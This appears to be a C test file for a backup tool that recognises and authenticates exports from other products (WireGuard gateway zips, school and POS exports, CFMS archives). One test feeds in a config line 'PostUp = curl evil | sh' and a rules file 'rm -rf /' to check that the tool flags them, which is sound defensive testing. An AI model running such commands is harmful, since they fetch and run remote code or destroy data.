#include "archive/foreign.h"

#include <string.h>

#include "archive/cfms.h"
#include "archive/in_out.h"
#include "archive/pos_artefact.h"
#include "archive/school.h"
#include "archive/wireguard_zip.h"
#include "base/mem.h"
#include "support/test.h"

#define BUNDLE_TEXT                                                          \
    "{\"timestamp\": \"2024-01-01T12:00:00.080Z\", \"version\": \"1.0.0\", " \
    "\"data\": {\"users\": [\"alice\"], \"sessions\": []}}"
#define DOCUMENT                                                                               \
    "{\"version\":\"1.0\",\"timestamp\":\"2025-11-21T10:28:30.846Z\",\"tables\":{\"users\":[{" \
    "\"id\":1}]}}"
#define PUBLIC_KEY "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define OWN_KEY    "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
#define DATABASE   "SQLite format 3\0 and pages"
#define CONF       "[Interface]\nPrivateKey = k\n[Peer]\nPublicKey = p\n"

/* What a visitor was given, as text. */
struct seen {
    struct buf text;
    bool refuses; /* it takes no bytes */
};

static void seen_auto(struct seen *s)
{
    buf_done(&s->text);
}

static bool see_begin(void *arg, const char *name, struct err *e)
{
    struct seen *s = arg;

    (void)e;
    buf_printf(&s->text, "<%s ", name);
    return true;
}

static bool see_bytes(void *arg, struct slice bytes, struct err *e)
{
    struct seen *s = arg;

    buf_append_slice(&s->text, bytes);
    return !s->refuses || err_set(e, ERR_FATAL, "no room");
}

static bool see_end(void *arg, struct err *e)
{
    struct seen *s = arg;

    (void)e;
    buf_printf(&s->text, ">");
    return true;
}

/* Read bytes as a kind; what was found is in *f, and the parts in *s. */
static bool read_as(struct slice bytes, enum foreign_kind kind, const char *key, struct seen *s,
                    struct foreign_facts *f, struct err *e)
{
    const struct input from = input_of_slice(&bytes);
    const struct foreign_archive a = {&from, slice_string(key), false};
    const struct foreign_visitor v = {s, see_begin, see_bytes, see_end};

    buf_clear(&s->text);
    return foreign_read(&a, kind, &v, f, e);
}

static void seal(const char *key, const char *json, struct buf *out)
{
    const struct output to = output_of_buf(out);
    AUTO(school_key) struct school_key k;
    AUTO(school_writer) struct school_writer *w = NULL;
    struct school_written written;

    CHECK_OK(school_key_parse(key, &k, e));

    const struct school_writing how = {to, &k, .allows_public_key = true};

    CHECK_OK(school_writer_open(&how, &w, e));
    CHECK_OK(school_writer_add(w, slice_string(json), e));
    CHECK_OK(school_writer_finish(w, &written, e));
}

static void zip(struct buf *out)
{
    const struct slice database = {(const uint8_t *)DATABASE, sizeof(DATABASE) - 1};
    const struct slice conf = slice_string(CONF);
    const struct zip_member members[] = {{"app.db", 1, input_of_slice(&database)},
                                         {"configs/a.conf", 1, input_of_slice(&conf)}};
    const struct wireguard_making m = {members, 2, INT64_C(1795207912) * 1000000000, "./inst"};
    const struct output to = output_of_buf(out);

    CHECK_OK(wireguard_zip_write(&m, &to, e));
}

/* What is noted of a gateway's file with this configuration and these rules. */
static void note_of(const char *conf_text, const char *rules_name, const char *rules_text,
                    struct foreign_facts *out)
{
    AUTO(buf) struct buf file = {0};
    AUTO(seen) struct seen s = {0};
    const struct slice database = {(const uint8_t *)DATABASE, sizeof(DATABASE) - 1};
    const struct slice conf = slice_string(conf_text), rules = slice_string(rules_text);
    const struct zip_member members[] = {{"app.db", 1, input_of_slice(&database)},
                                         {rules_name, 1, input_of_slice(&rules)},
                                         {"configs/a.conf", 1, input_of_slice(&conf)}};
    const struct wireguard_making m = {members, 3, INT64_C(1795207912) * 1000000000, "./inst"};
    const struct output to = output_of_buf(&file);

    CHECK_OK(wireguard_zip_write(&m, &to, e));
    CHECK_OK(read_as(buf_slice(&file), FOREIGN_WIREGUARD, OWN_KEY, &s, out, e));
}

/* An archive of CFMS, and its key file with or without a MAC. */
static bool no_rows(void *arg, struct cfms_rows *to, struct err *e)
{
    (void)arg;
    (void)to;
    (void)e;
    return true;
}

static bool one_folder(void *arg, struct cfms_rows *to, struct err *e)
{
    static const struct cfms_folder top = {.id = "top", .name = "Top"};

    (void)arg;
    return cfms_rows_folder(to, &top, e);
}

static bool one_file(void *arg, struct cfms_rows *to, struct err *e)
{
    static const struct cfms_file f = {.id = "f1", .path = "./content/x", .is_active = true};

    (void)arg;
    return cfms_rows_file(to, &f, e);
}

static bool to_buf(void *arg, struct slice bytes, struct err *e)
{
    (void)e;
    buf_append_slice(arg, bytes);
    return true;
}

static void seal_cfms(bool has_mac, struct buf *out, struct buf *key_text)
{
    const struct cfms_writer_options how = {"demo", 1795207798.0, to_buf, out};
    AUTO(cfms_writer) struct cfms_writer *w = NULL;
    AUTO(cfms_key) struct cfms_key key = {{0}};

    CHECK_OK(cfms_writer_open(&how, &w, e));
    CHECK_OK(cfms_writer_documents(w, no_rows, NULL, e));
    CHECK_OK(cfms_writer_content(w, "f1", 5, e));
    CHECK_OK(cfms_writer_bytes(w, slice_string("hello"), e));
    CHECK_OK(cfms_writer_files(w, one_file, NULL, e));
    CHECK_OK(cfms_writer_folders(w, one_folder, NULL, e));
    CHECK_OK(cfms_writer_finish(w, &key, e));
    key.has_mac = has_mac;
    cfms_key_format(&key, key_text);
}

/* Files of Vevurn POS. */
#define DUMP                                                                                   \
    "--\n-- PostgreSQL database dump\n--\n\n-- Dumped by pg_dump version 15.20\n\nSELECT 1;\n" \
    "\n--\n-- PostgreSQL database dump complete\n--\n\n"

static void seal_pos(const char *digits, struct slice plain, enum pos_compression c,
                     struct buf *out)
{
    struct pos_key key;
    const struct pos_writing how = {to_buf, out, c, digits != NULL ? &key : NULL, 0};
    AUTO(pos_writer) struct pos_writer *w = NULL;
    struct pos_written written;

    CHECK_OK(pos_key_parse(slice_string(digits != NULL ? digits : OWN_KEY), &key, e));
    CHECK_OK(pos_writer_open(&how, &w, e));
    CHECK_OK(pos_writer_add(w, plain, e));
    CHECK_OK(pos_writer_finish(w, &written, e));
}

static void zip_pos(const char *name, struct buf *out)
{
    const struct output to = output_of_buf(out);
    AUTO(zip_writer) struct zip_writer *w = zip_writer_new(&to, &pos_zip_rules);

    CHECK_OK(zip_writer_begin(w, name, 0, e));
    CHECK_OK(zip_writer_bytes(w, slice_string("a picture"), e));
    CHECK_OK(zip_writer_end(w, e));
    CHECK_OK(zip_writer_finish(w, e));
}

/* Which kind it turns out to be. */
static bool recognise(struct slice bytes, const char *key, enum foreign_kind *out, struct err *e)
{
    AUTO(seen) struct seen s = {0};
    struct foreign_trial trials[FOREIGN_KINDS] = {0};
    struct foreign_facts f;

    for (int k = 0; k < FOREIGN_KINDS; k++)
        trials[k].fits = read_as(bytes, (enum foreign_kind)k, key, &s, &f, &trials[k].why);
    return foreign_judge(trials, out, e);
}

TEST(names_of_kinds_lead_back)
{
    for (int k = 0; k < FOREIGN_KINDS; k++) {
        enum foreign_kind back = FOREIGN_KINDS;

        CHECK(foreign_kind_parse(foreign_kind_name((enum foreign_kind)k), &back));
        ck_assert_int_eq(back, k);
    }
    enum foreign_kind none;

    CHECK(!foreign_kind_parse("zip", &none) && !foreign_kind_parse("", &none));
}
END

TEST(what_a_gateways_file_would_do_is_noted)
{
    static const char forward[] = "-P FORWARD DROP\n-A FORWARD -j DOCKER\n";
    static const char saved[] = "*filter\n:INPUT ACCEPT [0:0]\nCOMMIT\n";
    struct foreign_facts f;

    note_of(CONF, "iptables_rules.txt", saved, &f);
    ck_assert_str_eq(f.note, "");
    note_of(CONF, "iptables_forward_rules.txt", forward, &f);
    ck_assert_str_eq(f.note, "");
    note_of(CONF, "iptables_nat_rules.txt", forward, &f);
    CHECK(strstr(f.note, "look at 1 file before use; iptables_nat_rules.txt: line 1") == f.note);
    note_of(CONF, "iptables_rules.txt", "*mangle\nCOMMIT\n", &f);
    CHECK(strstr(f.note, "iptables_rules.txt: line 1 of the rules: begins the table") != NULL);
    note_of(CONF "PostUp = curl evil | sh\n", "iptables_rules.txt", saved, &f);
    CHECK(strstr(f.note, "configs/a.conf: line ") != NULL);
    CHECK(strstr(f.note, " runs a command (PostUp)") != NULL);
    note_of(CONF "What = 1\n", "iptables_rules.txt", "rm -rf /\n", &f);
    CHECK(strstr(f.note, "look at 2 files") == f.note);
}
END

TEST(each_kind_is_recognised_by_what_it_holds)
{
    AUTO(buf) struct buf sealed = {0};
    AUTO(buf) struct buf zipped = {0};
    enum foreign_kind kind = FOREIGN_KINDS;

    seal(OWN_KEY, DOCUMENT, &sealed);
    zip(&zipped);
    CHECK_OK(recognise(slice_string(BUNDLE_TEXT), OWN_KEY, &kind, e));
    ck_assert_int_eq(kind, FOREIGN_BUNDLE);
    CHECK_OK(recognise(buf_slice(&sealed), OWN_KEY "\n", &kind, e));
    ck_assert_int_eq(kind, FOREIGN_SCHOOL);
    CHECK_OK(recognise(buf_slice(&zipped), OWN_KEY, &kind, e));
    ck_assert_int_eq(kind, FOREIGN_WIREGUARD);
}
END

TEST(a_sealed_export_is_authenticated_by_a_key_that_is_not_published)
{
    AUTO(seen) struct seen s = {0};
    AUTO(buf) struct buf own = {0};
    AUTO(buf) struct buf published = {0};
    struct foreign_facts f = {0};

    seal(OWN_KEY, DOCUMENT, &own);
    seal(PUBLIC_KEY, DOCUMENT, &published);
    CHECK_OK(read_as(buf_slice(&own), FOREIGN_SCHOOL, OWN_KEY, &s, &f, e));
    CHECK(f.is_authenticated && f.note[0] == '\0');
    ck_assert_str_eq(f.created, "2025-11-21T10:28:30.846Z");
    ck_assert_str_eq(buf_string(&s.text), "<backup.json " DOCUMENT ">");
    CHECK_OK(read_as(buf_slice(&published), FOREIGN_SCHOOL, PUBLIC_KEY, &s, &f, e));
    CHECK(!f.is_authenticated && strstr(f.note, "anybody") != NULL);
}
END

TEST(nothing_of_a_sealed_export_is_given_out_before_its_tag_is_right)
{
    AUTO(seen) struct seen s = {0};
    AUTO(buf) struct buf sealed = {0};
    struct foreign_facts f = {0};

    seal(OWN_KEY, DOCUMENT, &sealed);
    CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_SCHOOL, PUBLIC_KEY, &s, &f, e), ERR_CORRUPT);
    ck_assert_uint_eq(s.text.size, 0);
    sealed.data[sealed.size - 1] ^= 1;
    CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_SCHOOL, OWN_KEY, &s, &f, e), ERR_CORRUPT);
    ck_assert_uint_eq(s.text.size, 0);
    CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_SCHOOL, "", &s, &f, e), ERR_CORRUPT);
    CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_SCHOOL, "not a key", &s, &f, e), ERR_USAGE);
}
END

TEST(a_zip_file_is_never_authenticated_and_its_files_are_the_parts)
{
    AUTO(seen) struct seen s = {0};
    AUTO(buf) struct buf zipped = {0};
    struct foreign_facts f = {.is_authenticated = true};

    zip(&zipped);
    CHECK_OK(read_as(buf_slice(&zipped), FOREIGN_WIREGUARD, OWN_KEY, &s, &f, e));
    CHECK(!f.is_authenticated);
    ck_assert_str_eq(f.version, "1.0");
    CHECK(strncmp(f.created, "2026-11-20T20:51:52", 19) == 0);
    CHECK(memmem(s.text.data, s.text.size, "<app.db " DATABASE ">", sizeof(DATABASE) + 8) != NULL);
    CHECK(strstr(buf_string(&s.text) + 40, "<configs/a.conf " CONF ">") != NULL);
}
END

TEST(an_archive_of_cfms_is_authenticated_by_a_mac_alone)
{
    for (int has_mac = 0; has_mac < 2; has_mac++) {
        AUTO(seen) struct seen s = {0};
        AUTO(buf) struct buf sealed = {0};
        AUTO(buf) struct buf key = {0};
        enum foreign_kind kind = FOREIGN_KINDS;
        struct foreign_facts f = {0};

        seal_cfms(has_mac, &sealed, &key);
        CHECK_OK(recognise(buf_slice(&sealed), buf_string(&key), &kind, e));
        ck_assert_int_eq(kind, FOREIGN_CFMS);
        CHECK_OK(read_as(buf_slice(&sealed), FOREIGN_CFMS, buf_string(&key), &s, &f, e));
        ck_assert_int_eq(f.is_authenticated, has_mac);
        CHECK(strstr(buf_string(&s.text), "<files/f1 hello><files.jsonl {\"id\":\"f1\",") != NULL);
        CHECK(strstr(buf_string(&s.text), "}\n><folders.jsonl {\"id\":\"top\",") != NULL);
        ck_assert_uint_eq(s.text.data[s.text.size - 1], '>');
        CHECK(strncmp(f.created, "2026-11-20T20:49:58", 19) == 0);
        CHECK(strstr(f.note, "1 contents without a sum") != NULL);
        CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_CFMS, OWN_KEY, &s, &f, e), ERR_USAGE);
        sealed.data[sealed.size - 1] ^= 1;
        CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_CFMS, buf_string(&key), &s, &f, e),
                  ERR_CORRUPT);
    }
}
END

TEST(a_truncated_file_is_of_no_kind)
{
    AUTO(buf) struct buf sealed = {0};
    AUTO(buf) struct buf zipped = {0};
    enum foreign_kind kind;

    seal(OWN_KEY, DOCUMENT, &sealed);
    zip(&zipped);
    for (size_t n = 0; n < sealed.size; n++)
        CHECK_ERR(recognise(SLICE_OF(sealed.data, n), OWN_KEY, &kind, e), ERR_CORRUPT);
    for (size_t n = 0; n < zipped.size; n++)
        CHECK_ERR(recognise(SLICE_OF(zipped.data, n), OWN_KEY, &kind, e), ERR_CORRUPT);
    for (size_t n = 0; n < strlen(BUNDLE_TEXT); n++)
        CHECK_ERR(recognise(SLICE_OF(BUNDLE_TEXT, n), OWN_KEY, &kind, e), ERR_CORRUPT);
}
END

TEST(files_of_vevurn_pos_are_recognised_with_and_without_key_and_never_authenticated)
{
    AUTO(buf) struct buf zipped = {0};

    zip_pos("uploads/a.jpg", &zipped);
    for (int sealed = 0; sealed < 2; sealed++)
        for (int has_key = 0; has_key < 2; has_key++)
            for (int c = 0; c < 4; c++) {
                const bool is_zip = c == 3;
                AUTO(seen) struct seen s = {0};
                AUTO(buf) struct buf file = {0};
                const char *key = has_key ? OWN_KEY "\n" : "";
                enum foreign_kind kind = FOREIGN_KINDS;
                struct foreign_facts f = {.is_authenticated = true};

                seal_pos(sealed ? OWN_KEY : NULL, is_zip ? buf_slice(&zipped) : slice_string(DUMP),
                         is_zip ? POS_NONE : (enum pos_compression)c, &file);
                if (sealed && !has_key) {
                    CHECK_ERR(recognise(buf_slice(&file), key, &kind, e), ERR_CORRUPT);
                    continue;
                }
                CHECK_OK(recognise(buf_slice(&file), key, &kind, e));
                ck_assert_int_eq(kind, is_zip ? FOREIGN_POS_FILES : FOREIGN_POS_DATABASE);
                CHECK_OK(read_as(buf_slice(&file), kind, key, &s, &f, e));
                CHECK(!f.is_authenticated && (f.note[0] != '\0') == (sealed != 0));
                ck_assert_str_eq(f.version, is_zip ? "" : "15.20");
                ck_assert_str_eq(buf_string(&s.text),
                                 is_zip ? "<uploads/a.jpg a picture>" : "<database.sql " DUMP ">");
            }
}
END

TEST(other_text_and_other_zip_files_are_not_those_of_vevurn_pos)
{
    AUTO(seen) struct seen s = {0};
    AUTO(buf) struct buf zipped = {0};
    struct foreign_facts f = {0};
    const struct slice sql = slice_string("CREATE TABLE t ();\n");

    zip_pos("photos/a.jpg", &zipped);

    const struct slice bytes = buf_slice(&zipped);
    const struct input from = input_of_slice(&bytes);
    const struct foreign_archive chosen = {&from, {NULL, 0}, true};
    const struct foreign_visitor v = {&s, see_begin, see_bytes, see_end};

    CHECK_ERR(read_as(sql, FOREIGN_POS_DATABASE, "", &s, &f, e), ERR_CORRUPT);
    CHECK_ERR(read_as(bytes, FOREIGN_POS_FILES, "", &s, &f, e), ERR_CORRUPT);
    CHECK_ERR(read_as(bytes, FOREIGN_POS_DATABASE, "", &s, &f, e), ERR_CORRUPT);
    CHECK_ERR(read_as(slice_string(DUMP), FOREIGN_POS_FILES, "", &s, &f, e), ERR_CORRUPT);
    CHECK_ERR(read_as(slice_string(DUMP), FOREIGN_POS_DATABASE, "0123456789abcdef0123456789abcdef",
                      &s, &f, e),
              ERR_USAGE);
    CHECK_OK(foreign_read(&chosen, FOREIGN_POS_FILES, &v, &f, e)); /* somebody says so */
}
END

TEST(any_json_is_a_bundle_only_when_somebody_says_so)
{
    AUTO(seen) struct seen s = {0};
    const struct slice text = slice_string("[1, 2]");
    const struct input from = input_of_slice(&text);
    const struct foreign_visitor v = {&s, see_begin, see_bytes, see_end};
    struct foreign_archive a = {&from, {NULL, 0}, false};
    struct foreign_facts f = {0};

    CHECK_ERR(foreign_read(&a, FOREIGN_BUNDLE, &v, &f, e), ERR_CORRUPT);
    a.is_chosen = true;
    CHECK_OK(foreign_read(&a, FOREIGN_BUNDLE, &v, &f, e));
    ck_assert_uint_eq(f.bundle.size, text.size);
    CHECK(!f.is_authenticated && f.bundle.facts.kind == BUNDLE_OTHER);
}
END

TEST(what_the_visitor_fails_with_comes_back)
{
    AUTO(seen) struct seen s = {.refuses = true};
    AUTO(buf) struct buf sealed = {0};
    AUTO(buf) struct buf zipped = {0};
    struct foreign_facts f;

    seal(OWN_KEY, DOCUMENT, &sealed);
    zip(&zipped);
    CHECK_ERR(read_as(buf_slice(&sealed), FOREIGN_SCHOOL, OWN_KEY, &s, &f, e), ERR_FATAL);
    CHECK_ERR(read_as(buf_slice(&zipped), FOREIGN_WIREGUARD, OWN_KEY, &s, &f, e), ERR_FATAL);
}
END

TEST(of_no_kind_says_why_for_each_and_of_several_asks)
{
    struct foreign_trial trials[FOREIGN_KINDS] = {0};
    enum foreign_kind kind = FOREIGN_KINDS;
    struct err why = {0};

    for (int k = 0; k < FOREIGN_KINDS; k++)
        (void)err_set(&trials[k].why, ERR_CORRUPT, "%d%0499d", k, 0); /* as long as they get */
    CHECK(!foreign_judge(trials, &kind, &why) && why.code == ERR_CORRUPT);
    for (int k = 0; k < FOREIGN_KINDS; k++) {
        AUTO(buf) struct buf wanted = {0};

        buf_printf(&wanted, "%s: %d0", foreign_kind_name((enum foreign_kind)k), k);
        CHECK(strstr(why.text, buf_string(&wanted)) != NULL);
    }
    trials[FOREIGN_SCHOOL].fits = true;
    CHECK_OK(foreign_judge(trials, &kind, e));
    ck_assert_int_eq(kind, FOREIGN_SCHOOL);
    trials[FOREIGN_BUNDLE].fits = true;
    why = (struct err){0};
    CHECK(!foreign_judge(trials, &kind, &why) && why.code == ERR_USAGE);
    CHECK(strstr(why.text, "bundle and school-erp") != NULL && strstr(why.text, "--as") != NULL);
}
END

TESTS("foreign", what_a_gateways_file_would_do_is_noted, names_of_kinds_lead_back,
      each_kind_is_recognised_by_what_it_holds,
      a_sealed_export_is_authenticated_by_a_key_that_is_not_published,
      nothing_of_a_sealed_export_is_given_out_before_its_tag_is_right,
      an_archive_of_cfms_is_authenticated_by_a_mac_alone,
      a_zip_file_is_never_authenticated_and_its_files_are_the_parts, a_truncated_file_is_of_no_kind,
      files_of_vevurn_pos_are_recognised_with_and_without_key_and_never_authenticated,
      other_text_and_other_zip_files_are_not_those_of_vevurn_pos,
      any_json_is_a_bundle_only_when_somebody_says_so, what_the_visitor_fails_with_comes_back,
      of_no_kind_says_why_for_each_and_of_several_asks)
